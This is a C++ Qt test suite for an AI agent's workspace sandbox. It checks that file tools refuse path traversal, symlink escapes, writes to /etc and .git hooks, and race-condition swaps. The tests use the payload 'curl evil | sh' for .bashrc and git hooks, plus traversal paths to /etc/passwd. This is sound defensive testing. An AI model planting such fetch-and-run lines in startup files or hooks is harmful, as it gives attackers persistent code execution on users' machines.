// The workspace boundary: nothing a tool is asked to read or write escapes the session's
// folder, whichever way the path is spelled and whatever is swapped in meanwhile. Every escape
// test checks the target on disk afterwards, not only the error.

#include "tools/builtin/fsreadtool.h"
#include "tools/builtin/fswritetool.h"
#include "tools/workspace.h"

#include <QDir>
#include <QFile>
#include <QLocalServer>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

using namespace Spool;

Q_DECLARE_METATYPE(Spool::Workspace::Resolver)

namespace {

QByteArray readFile(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return QByteArray("<missing>");
    return f.readAll();
}

void writeFile(const QString &path, const QByteArray &data)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(data);
}

Workspace::Transform replaceWith(const QByteArray &content)
{
    return [content](const Workspace::WriteTarget &) -> Result<QByteArray> { return content; };
}

ToolResult runTool(Tool &tool, const ToolInvocation &invocation)
{
    QObject parent;
    ToolJob *job = tool.start(invocation, &parent);
    QSignalSpy spy(job, &ToolJob::finished);
    if (!spy.wait(30000))
        return ToolResult::failure(QStringLiteral("<no result>"));
    return spy.first().first().value<ToolResult>();
}

} // namespace

class tst_Workspace : public QObject
{
    Q_OBJECT
private slots:
    void init();
    void cleanup();

    void normalize_data();
    void normalize();
    void dotDotInEveryPosition();

    void writeRefusedOutside_data();
    void writeRefusedOutside();
    void writeToBashrcWithFakeHome_data();
    void writeToBashrcWithFakeHome();
    void writeToEtcRefused_data();
    void writeToEtcRefused();
    void symlinkOutRefused_data();
    void symlinkOutRefused();
    void protectedFolders_data();
    void protectedFolders();
    void linkIntoGitHooksRefused_data();
    void linkIntoGitHooksRefused();
    void innerSymlinkFollowedOnlyWithOpenat2();

    void swappedParentAfterCheck_data();
    void swappedParentAfterCheck();
    void swappedFileAfterCheckOnRead_data();
    void swappedFileAfterCheckOnRead();
    void swappedAfterApprovalPreview_data();
    void swappedAfterApprovalPreview();
    void hardLinkOutsideNotModified();

    void specialFilesRefused_data();
    void specialFilesRefused();
    void sizeCaps();
    void writeKeepsModeAndLeavesNoTemporary();
    void defaultWorkspacePerSession();

private:
    QString ws(const QString &rel = QString()) const
    {
        return rel.isEmpty() ? m_dir->filePath(QStringLiteral("ws"))
                             : m_dir->filePath(QStringLiteral("ws/") + rel);
    }
    QString outside(const QString &rel = QString()) const
    {
        return rel.isEmpty() ? m_dir->filePath(QStringLiteral("outside"))
                             : m_dir->filePath(QStringLiteral("outside/") + rel);
    }
    Workspace open(Workspace::Resolver resolver) const
    {
        auto w = Workspace::open(ws(), resolver);
        if (!w)
            qFatal("cannot open workspace: %s", qPrintable(w.errorMessage()));
        return *w;
    }
    void addResolverRows();

    std::unique_ptr<QTemporaryDir> m_dir;
};

void tst_Workspace::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    QVERIFY(QDir().mkpath(ws()));
    QVERIFY(QDir().mkpath(outside()));
    writeFile(outside(QStringLiteral("target.txt")), "outside original\n");
}

void tst_Workspace::cleanup()
{
    Workspace::setTestHook({});
    m_dir.reset();
}

void tst_Workspace::addResolverRows()
{
    QTest::addColumn<Workspace::Resolver>("resolver");
    if (Workspace::kernelHasOpenat2())
        QTest::newRow("openat2") << Workspace::Resolver::Openat2;
    QTest::newRow("walk") << Workspace::Resolver::Walk;
}

void tst_Workspace::normalize_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("expected"); // normalized path, or "!" + part of the error
    QTest::newRow("plain") << "src/main.cpp" << "src/main.cpp";
    QTest::newRow("dots and slashes") << "./src//./main.cpp/" << "src/main.cpp";
    QTest::newRow("empty") << "" << ".";
    QTest::newRow("dot") << "." << ".";
    QTest::newRow("absolute") << "/etc/passwd" << "!is absolute";
    QTest::newRow("absolute double slash") << "//etc/passwd" << "!is absolute";
    QTest::newRow("tilde") << "~/.bashrc" << "!starts with '~'";
    QTest::newRow("tilde user") << "~root/.bashrc" << "!starts with '~'";
    QTest::newRow("dotdot") << ".." << "!contains '..'";
    QTest::newRow("dotdot slash") << "../x" << "!contains '..'";
    QTest::newRow("dotdot middle") << "a/../b" << "!contains '..'";
    QTest::newRow("dotdot end") << "a/.." << "!contains '..'";
    QTest::newRow("nul") << QStringLiteral("a") + QChar(0) + QStringLiteral("b") << "!NUL";
    QTest::newRow("newline") << "a\nb" << "!control characters";
    QTest::newRow("escape") << "a\x1b[2Jb" << "!control characters";
    QTest::newRow("huge") << QString(100000, QLatin1Char('a')) << "!bytes long";
    QTest::newRow("long name") << QString(300, QLatin1Char('b')) << "!longer than 255";
    QTest::newRow("dots as a name") << "a/.../b" << "a/.../b";
    QTest::newRow("unicode") << "données/été.txt" << "données/été.txt";
}

void tst_Workspace::normalize()
{
    QFETCH(QString, path);
    QFETCH(QString, expected);
    auto r = Workspace::normalize(path);
    if (expected.startsWith(QLatin1Char('!'))) {
        QVERIFY2(!r, qPrintable(r ? *r : QString()));
        QVERIFY2(r.errorMessage().contains(expected.mid(1)), qPrintable(r.errorMessage()));
        QVERIFY(r.errorMessage().size() < 400); // a huge path is not echoed back whole
    } else {
        QVERIFY2(r, qPrintable(r.errorMessage()));
        QCOMPARE(*r, expected);
    }
}

void tst_Workspace::dotDotInEveryPosition()
{
    // "..", in every position of a four-name path, through both the read and the write path.
    const QStringList names{QStringLiteral("a"), QStringLiteral("b"), QStringLiteral("c"),
                            QStringLiteral("target.txt")};
    Workspace w = open(Workspace::Resolver::Automatic);
    for (int pos = 0; pos <= names.size(); ++pos) {
        for (int count = 1; count <= 3; ++count) {
            QStringList parts = names;
            for (int i = 0; i < count; ++i)
                parts.insert(pos, QStringLiteral(".."));
            const QString path = parts.join(QLatin1Char('/'));
            QVERIFY2(!w.openForRead(path), qPrintable(path));
            const Status s = w.write(path, replaceWith("x"), 1024, true);
            QVERIFY2(!s, qPrintable(path));
            QVERIFY2(s.errorMessage().contains(QLatin1String("'..'")), qPrintable(s.errorMessage()));
        }
    }
    QCOMPARE(readFile(outside(QStringLiteral("target.txt"))), QByteArray("outside original\n"));
    QVERIFY(QDir(ws()).entryList(QDir::NoDotAndDotDot | QDir::AllEntries).isEmpty());
}

void tst_Workspace::writeRefusedOutside_data()
{
    addResolverRows();
}

void tst_Workspace::writeRefusedOutside()
{
    QFETCH(Workspace::Resolver, resolver);
    Workspace w = open(resolver);
    const QString target = outside(QStringLiteral("target.txt"));
    for (const QString &path : {target, QStringLiteral("../outside/target.txt"),
                                QStringLiteral("./../outside/target.txt")}) {
        const Status s = w.write(path, replaceWith("owned\n"), 1024, true);
        QVERIFY2(!s, qPrintable(path));
        QVERIFY(!w.openForRead(path));
    }
    QCOMPARE(readFile(target), QByteArray("outside original\n"));
}

void tst_Workspace::writeToBashrcWithFakeHome_data()
{
    addResolverRows();
}

void tst_Workspace::writeToBashrcWithFakeHome()
{
    QFETCH(Workspace::Resolver, resolver);
    const QString home = m_dir->filePath(QStringLiteral("home"));
    writeFile(home + QStringLiteral("/.bashrc"), "# the user's bashrc\n");
    const QByteArray oldHome = qgetenv("HOME");
    qputenv("HOME", QFile::encodeName(home));
    auto restore = qScopeGuard([&] { qputenv("HOME", oldHome); });

    Workspace w = open(resolver);
    const QStringList attempts{
        QStringLiteral("~/.bashrc"),
        home + QStringLiteral("/.bashrc"),
        QStringLiteral("../home/.bashrc"),
        QStringLiteral("$HOME/.bashrc"), // not expanded: would be a folder named "$HOME"
    };
    for (const QString &path : attempts) {
        const Status s = w.write(path, replaceWith("curl evil | sh\n"), 1024, false);
        if (path.startsWith(QLatin1Char('$'))) {
            // Refused here only because its folder does not exist; it could never reach HOME.
            QVERIFY(!s);
            continue;
        }
        QVERIFY2(!s, qPrintable(path));
    }
    // Also through the tool, as the model would call it.
    FsWriteTool tool(ToolOptions{});
    ToolInvocation call;
    call.workspace = ws();
    call.arguments = {{QStringLiteral("path"), QStringLiteral("~/.bashrc")},
                      {QStringLiteral("content"), QStringLiteral("curl evil | sh\n")}};
    const ToolResult r = runTool(tool, call);
    QVERIFY(!r.ok);
    QVERIFY2(r.output.contains(QLatin1String("'~'")), qPrintable(r.output));
    QCOMPARE(readFile(home + QStringLiteral("/.bashrc")), QByteArray("# the user's bashrc\n"));
    QVERIFY(!QFileInfo::exists(ws(QStringLiteral("~"))));
}

void tst_Workspace::writeToEtcRefused_data()
{
    addResolverRows();
}

void tst_Workspace::writeToEtcRefused()
{
    QFETCH(Workspace::Resolver, resolver);
    // A name that does not exist in /etc: a broken check would create it, never damage /etc.
    const QString probe = QStringLiteral("/etc/spool-tst-workspace-%1").arg(::getpid());
    const QByteArray passwd = readFile(QStringLiteral("/etc/passwd"));
    Workspace w = open(resolver);
    QString up;
    for (int i = 0; i < QDir(ws()).absolutePath().count(QLatin1Char('/')) + 2; ++i)
        up += QStringLiteral("../");
    const QStringList attempts{probe, QString(up + probe.mid(1)), QStringLiteral("/etc/passwd"),
                               QString(up + QStringLiteral("etc/passwd"))};
    for (const QString &path : attempts) {
        QVERIFY2(!w.write(path, replaceWith("x"), 1024, true), qPrintable(path));
    }
    // And through a symbolic link to /etc inside the workspace.
    QVERIFY(QFile::link(QStringLiteral("/etc"), ws(QStringLiteral("etc"))));
    const Status viaLink = w.write(QStringLiteral("etc/") + QFileInfo(probe).fileName(),
                                   replaceWith("x"), 1024, true);
    QVERIFY(!viaLink);
    QVERIFY(!w.write(QStringLiteral("etc/passwd"), replaceWith("x"), 1024, true));
    QVERIFY(!w.openForRead(QStringLiteral("etc/passwd")));
    const bool created = QFileInfo::exists(probe);
    QFile::remove(probe);
    QVERIFY(!created);
    QCOMPARE(readFile(QStringLiteral("/etc/passwd")), passwd);
}

void tst_Workspace::symlinkOutRefused_data()
{
    addResolverRows();
}

void tst_Workspace::symlinkOutRefused()
{
    QFETCH(Workspace::Resolver, resolver);
    QVERIFY(QFile::link(outside(), ws(QStringLiteral("out"))));
    QVERIFY(QFile::link(outside(QStringLiteral("target.txt")), ws(QStringLiteral("link.txt"))));
    QVERIFY(QFile::link(QStringLiteral("../outside/target.txt"), ws(QStringLiteral("rel.txt"))));
    QVERIFY(QDir().mkpath(ws(QStringLiteral("sub"))));
    QVERIFY(QFile::link(QStringLiteral("../../outside"), ws(QStringLiteral("sub/up"))));
    Workspace w = open(resolver);
    const QStringList paths{
        QStringLiteral("out/target.txt"), QStringLiteral("out/new.txt"),
        QStringLiteral("link.txt"),       QStringLiteral("rel.txt"),
        QStringLiteral("sub/up/target.txt"), QStringLiteral("out/deeper/new.txt"),
    };
    for (const QString &path : paths) {
        const Status s = w.write(path, replaceWith("owned\n"), 1024, true);
        QVERIFY2(!s, qPrintable(path));
        auto read = w.openForRead(path);
        QVERIFY2(!read, qPrintable(path));
    }
    QCOMPARE(readFile(outside(QStringLiteral("target.txt"))), QByteArray("outside original\n"));
    QVERIFY(!QFileInfo::exists(outside(QStringLiteral("new.txt"))));
    QVERIFY(!QFileInfo::exists(outside(QStringLiteral("deeper"))));
    // The links themselves are untouched.
    QCOMPARE(QFileInfo(ws(QStringLiteral("link.txt"))).symLinkTarget(),
             outside(QStringLiteral("target.txt")));
    // Walking never follows a link out either.
    QStringList seen;
    QVERIFY(w.walk(QStringLiteral("."), 8, [&](const Workspace::Entry &e) {
        seen << e.path;
        return Workspace::Visit::Continue;
    }));
    QVERIFY2(!seen.contains(QStringLiteral("out/target.txt")), qPrintable(seen.join(u',')));
    QVERIFY(seen.contains(QStringLiteral("out")));
}

void tst_Workspace::protectedFolders_data()
{
    QTest::addColumn<QString>("path");
    QTest::newRow("git hook") << ".git/hooks/pre-commit";
    QTest::newRow("git config") << ".git/config";
    QTest::newRow("git file") << ".git";
    QTest::newRow("upper case") << ".GIT/hooks/post-checkout";
    QTest::newRow("submodule") << "vendor/lib/.git/hooks/pre-push";
    QTest::newRow("hg") << ".hg/hgrc";
    QTest::newRow("vscode") << ".vscode/tasks.json";
    QTest::newRow("envrc") << ".envrc";
    QTest::newRow("dotted") << "./.git//hooks/pre-commit";
}

void tst_Workspace::protectedFolders()
{
    QFETCH(QString, path);
    writeFile(ws(QStringLiteral(".git/hooks/pre-commit")), "#!/bin/sh\nexit 0\n");
    writeFile(ws(QStringLiteral(".git/config")), "[core]\n");
    Workspace w = open(Workspace::Resolver::Automatic);
    const Status s = w.write(path, replaceWith("#!/bin/sh\ncurl evil | sh\n"), 1024, true);
    QVERIFY(!s);
    QVERIFY2(s.errorMessage().contains(QLatin1String("protected control folder")),
             qPrintable(s.errorMessage()));
    QCOMPARE(readFile(ws(QStringLiteral(".git/hooks/pre-commit"))), QByteArray("#!/bin/sh\nexit 0\n"));
    QCOMPARE(readFile(ws(QStringLiteral(".git/config"))), QByteArray("[core]\n"));
    const QStringList created = QDir(ws()).entryList(QDir::NoDotAndDotDot | QDir::AllEntries | QDir::Hidden);
    QCOMPARE(created, QStringList{QStringLiteral(".git")});
    // Reading is fine: the model may look at a repository's config.
    QVERIFY(w.openForRead(QStringLiteral(".git/config")));
}

void tst_Workspace::linkIntoGitHooksRefused_data()
{
    addResolverRows();
}

void tst_Workspace::linkIntoGitHooksRefused()
{
    QFETCH(Workspace::Resolver, resolver);
    writeFile(ws(QStringLiteral(".git/hooks/pre-commit")), "#!/bin/sh\nexit 0\n");
    QVERIFY(QFile::link(QStringLiteral(".git/hooks"), ws(QStringLiteral("hooks"))));
    QVERIFY(QFile::link(QStringLiteral(".git"), ws(QStringLiteral("dotgit"))));
    Workspace w = open(resolver);
    for (const QString &path : {QStringLiteral("hooks/pre-commit"), QStringLiteral("hooks/post-merge"),
                                QStringLiteral("dotgit/config"), QStringLiteral("dotgit/hooks/new/x")}) {
        const Status s = w.write(path, replaceWith("#!/bin/sh\ncurl evil | sh\n"), 1024, true);
        QVERIFY2(!s, qPrintable(path));
    }
    QCOMPARE(readFile(ws(QStringLiteral(".git/hooks/pre-commit"))), QByteArray("#!/bin/sh\nexit 0\n"));
    QVERIFY(!QFileInfo::exists(ws(QStringLiteral(".git/hooks/post-merge"))));
    QVERIFY(!QFileInfo::exists(ws(QStringLiteral(".git/config"))));
    QVERIFY(!QFileInfo::exists(ws(QStringLiteral(".git/hooks/new"))));
}

void tst_Workspace::innerSymlinkFollowedOnlyWithOpenat2()
{
    writeFile(ws(QStringLiteral("sub/real.txt")), "inside\n");
    QVERIFY(QFile::link(QStringLiteral("sub"), ws(QStringLiteral("alias"))));
    if (Workspace::kernelHasOpenat2()) {
        Workspace w = open(Workspace::Resolver::Openat2);
        auto fd = w.openForRead(QStringLiteral("alias/real.txt"));
        QVERIFY2(fd, qPrintable(fd.errorMessage()));
    }
    Workspace walk = open(Workspace::Resolver::Walk);
    auto fd = walk.openForRead(QStringLiteral("alias/real.txt"));
    QVERIFY(!fd);
    QVERIFY2(fd.errorMessage().contains(QLatin1String("symbolic link")), qPrintable(fd.errorMessage()));
}

void tst_Workspace::swappedParentAfterCheck_data()
{
    addResolverRows();
}

void tst_Workspace::swappedParentAfterCheck()
{
    // The race, made deterministic: right after the write resolved and checked its folder,
    // "sub" is renamed away and a link to the outside takes its name. The write must land in
    // the folder that was checked, never outside.
    QFETCH(Workspace::Resolver, resolver);
    writeFile(ws(QStringLiteral("sub/file.txt")), "before\n");
    Workspace w = open(resolver);
    int swaps = 0;
    Workspace::setTestHook([&](const char *stage, const QString &) {
        if (qstrcmp(stage, "write:parent-resolved") != 0)
            return;
        ++swaps;
        QVERIFY(QDir(ws()).rename(QStringLiteral("sub"), QStringLiteral("sub.moved")));
        QVERIFY(QFile::link(outside(), ws(QStringLiteral("sub"))));
    });
    const Status s = w.write(QStringLiteral("sub/target.txt"), replaceWith("owned\n"), 1024, false);
    Workspace::setTestHook({});
    QCOMPARE(swaps, 1);
    QVERIFY2(s, qPrintable(s.errorMessage()));
    QCOMPARE(readFile(outside(QStringLiteral("target.txt"))), QByteArray("outside original\n"));
    QCOMPARE(readFile(ws(QStringLiteral("sub.moved/target.txt"))), QByteArray("owned\n"));
    // A second write, after the swap, resolves afresh and is refused.
    QVERIFY(!w.write(QStringLiteral("sub/target.txt"), replaceWith("owned\n"), 1024, false));
    QCOMPARE(readFile(outside(QStringLiteral("target.txt"))), QByteArray("outside original\n"));
}

void tst_Workspace::swappedFileAfterCheckOnRead_data()
{
    addResolverRows();
}

void tst_Workspace::swappedFileAfterCheckOnRead()
{
    QFETCH(Workspace::Resolver, resolver);
    writeFile(ws(QStringLiteral("notes.txt")), "harmless\n");
    writeFile(outside(QStringLiteral("secret.txt")), "SECRET\n");
    Workspace w = open(resolver);
    Workspace::setTestHook([&](const char *stage, const QString &) {
        if (qstrcmp(stage, "read:opened") != 0)
            return;
        QVERIFY(QFile::remove(ws(QStringLiteral("notes.txt"))));
        QVERIFY(QFile::link(outside(QStringLiteral("secret.txt")), ws(QStringLiteral("notes.txt"))));
    });
    const ToolResult r = FsReadTool::read(w, {{QStringLiteral("path"), QStringLiteral("notes.txt")}},
                                          ToolOptions::Files{});
    Workspace::setTestHook({});
    QVERIFY(!r.output.contains(QLatin1String("SECRET")));
    QVERIFY2(r.ok, qPrintable(r.output));
    QCOMPARE(r.output, QStringLiteral("harmless\n"));
    // Afterwards the link is seen for what it is.
    QVERIFY(!FsReadTool::read(w, {{QStringLiteral("path"), QStringLiteral("notes.txt")}},
                              ToolOptions::Files{}).ok);
}

void tst_Workspace::swappedAfterApprovalPreview_data()
{
    addResolverRows();
}

void tst_Workspace::swappedAfterApprovalPreview()
{
    // The user approves a diff for sub/config.txt; before the call runs, "sub" becomes a link
    // out of the workspace (say, from an earlier command). The approved call must not follow.
    QFETCH(Workspace::Resolver, resolver);
    writeFile(ws(QStringLiteral("sub/config.txt")), "a = 1\n");
    writeFile(outside(QStringLiteral("config.txt")), "outside config\n");
    ToolOptions options;
    options.resolver = resolver;
    FsWriteTool tool(options);
    ToolInvocation call;
    call.workspace = ws();
    call.arguments = {{QStringLiteral("path"), QStringLiteral("sub/config.txt")},
                      {QStringLiteral("content"), QStringLiteral("a = 2\n")}};
    const QJsonObject preview = tool.approvalPreview(call);
    QCOMPARE(preview.value(QStringLiteral("kind")).toString(), QStringLiteral("diff"));
    QVERIFY(preview.value(QStringLiteral("diff")).toString().contains(QLatin1String("+a = 2")));

    QVERIFY(QDir(ws()).rename(QStringLiteral("sub"), QStringLiteral("sub.old")));
    QVERIFY(QFile::link(outside(), ws(QStringLiteral("sub"))));
    const ToolResult r = runTool(tool, call);
    QVERIFY2(!r.ok, qPrintable(r.output));
    QCOMPARE(readFile(outside(QStringLiteral("config.txt"))), QByteArray("outside config\n"));
    QCOMPARE(tool.approvalPreview(call).value(QStringLiteral("kind")).toString(),
             QStringLiteral("error"));
}

void tst_Workspace::hardLinkOutsideNotModified()
{
    // A hard link shares the inode: writing in place would change the outside file. The
    // atomic replace gives the workspace name a new inode instead.
    if (::link(QFile::encodeName(outside(QStringLiteral("target.txt"))).constData(),
               QFile::encodeName(ws(QStringLiteral("hard.txt"))).constData()) != 0)
        QSKIP("cannot make a hard link here");
    Workspace w = open(Workspace::Resolver::Automatic);
    QVERIFY(w.write(QStringLiteral("hard.txt"), replaceWith("new\n"), 1024, false));
    QCOMPARE(readFile(ws(QStringLiteral("hard.txt"))), QByteArray("new\n"));
    QCOMPARE(readFile(outside(QStringLiteral("target.txt"))), QByteArray("outside original\n"));
}

void tst_Workspace::specialFilesRefused_data()
{
    addResolverRows();
}

void tst_Workspace::specialFilesRefused()
{
    QFETCH(Workspace::Resolver, resolver);
    QVERIFY(::mkfifo(QFile::encodeName(ws(QStringLiteral("fifo"))).constData(), 0600) == 0);
    QLocalServer server;
    QVERIFY(server.listen(ws(QStringLiteral("sock"))));
    QStringList specials{QStringLiteral("fifo"), QStringLiteral("sock")};
    if (::geteuid() == 0
        && ::mknod(QFile::encodeName(ws(QStringLiteral("null"))).constData(), S_IFCHR | 0666,
                   makedev(1, 3)) == 0)
        specials << QStringLiteral("null");
    Workspace w = open(resolver);
    for (const QString &path : std::as_const(specials)) {
        // A blocking open of a FIFO without a writer would never return: the suite would hang
        // here until ctest's timeout, so no clock is needed to catch it.
        auto fd = w.openForRead(path);
        QVERIFY2(!fd, qPrintable(path));
        const Status s = w.write(path, replaceWith("x"), 1024, false);
        QVERIFY2(!s, qPrintable(path));
        QVERIFY2(s.errorMessage().contains(QLatin1String("only regular files")),
                 qPrintable(s.errorMessage()));
    }
    QVERIFY(QFileInfo(ws(QStringLiteral("fifo"))).isFile() == false);
    struct stat st;
    QVERIFY(::lstat(QFile::encodeName(ws(QStringLiteral("fifo"))).constData(), &st) == 0);
    QVERIFY(S_ISFIFO(st.st_mode));
    QVERIFY(!w.openForRead(QStringLiteral(".")));
    QVERIFY(!w.write(QStringLiteral("."), replaceWith("x"), 1024, false));
}

void tst_Workspace::sizeCaps()
{
    writeFile(ws(QStringLiteral("big.txt")), QByteArray(5000, 'x'));
    Workspace w = open(Workspace::Resolver::Automatic);
    const Status tooBig = w.write(QStringLiteral("new.txt"), replaceWith(QByteArray(2000, 'y')), 1000, false);
    QVERIFY(!tooBig);
    QVERIFY2(tooBig.errorMessage().contains(QLatin1String("limit")), qPrintable(tooBig.errorMessage()));
    QVERIFY(!QFileInfo::exists(ws(QStringLiteral("new.txt"))));
    const Status existingTooBig = w.write(QStringLiteral("big.txt"), replaceWith("small"), 1000, false);
    QVERIFY(!existingTooBig);
    QCOMPARE(readFile(ws(QStringLiteral("big.txt"))).size(), 5000);
    auto target = w.inspectWrite(QStringLiteral("big.txt"), 1000);
    QVERIFY(!target);
}

void tst_Workspace::writeKeepsModeAndLeavesNoTemporary()
{
    writeFile(ws(QStringLiteral("run.sh")), "#!/bin/sh\n");
    QVERIFY(::chmod(QFile::encodeName(ws(QStringLiteral("run.sh"))).constData(), 0750) == 0);
    Workspace w = open(Workspace::Resolver::Automatic);
    QVERIFY(w.write(QStringLiteral("run.sh"), replaceWith("#!/bin/sh\necho hi\n"), 1024, false));
    struct stat st;
    QVERIFY(::stat(QFile::encodeName(ws(QStringLiteral("run.sh"))).constData(), &st) == 0);
    QCOMPARE(int(st.st_mode & 0777), 0750);
    QVERIFY(w.write(QStringLiteral("deep/er/new.txt"), replaceWith("n\n"), 1024, true));
    QCOMPARE(readFile(ws(QStringLiteral("deep/er/new.txt"))), QByteArray("n\n"));
    const Status noDirs = w.write(QStringLiteral("other/new.txt"), replaceWith("n\n"), 1024, false);
    QVERIFY(!noDirs);
    const QStringList names = QDir(ws()).entryList(QDir::Files | QDir::Hidden);
    QCOMPARE(names, QStringList{QStringLiteral("run.sh")});
}

void tst_Workspace::defaultWorkspacePerSession()
{
    const QString root = m_dir->filePath(QStringLiteral("workspaces"));
    auto a = Workspace::forCall(QString(), QStringLiteral("01HSESSIONA"), root);
    QVERIFY2(a, qPrintable(a.errorMessage()));
    QCOMPARE(a->root(), root + QStringLiteral("/01HSESSIONA"));
    QVERIFY(QFileInfo(a->root()).isDir());
    QCOMPARE(int(QFileInfo(a->root()).permissions() & 0x0077), 0); // owner only
    auto b = Workspace::forCall(QString(), QStringLiteral("01HSESSIONB"), root);
    QVERIFY(b && b->root() != a->root());
    QVERIFY(!Workspace::forCall(QString(), QStringLiteral("../escape"), root));
    QVERIFY(!Workspace::forCall(QString(), QStringLiteral("01HSESSIONA"), QString()));
    auto chosen = Workspace::forCall(ws(), QStringLiteral("01HSESSIONA"), root);
    QVERIFY(chosen && chosen->root() == ws());
    QVERIFY(!Workspace::open(QStringLiteral("relative/path")));
    QVERIFY(!Workspace::open(QStringLiteral("/")));
    QVERIFY(!Workspace::open(m_dir->filePath(QStringLiteral("missing"))));
}

QTEST_GUILESS_MAIN(tst_Workspace)
#include "tst_workspace.moc"
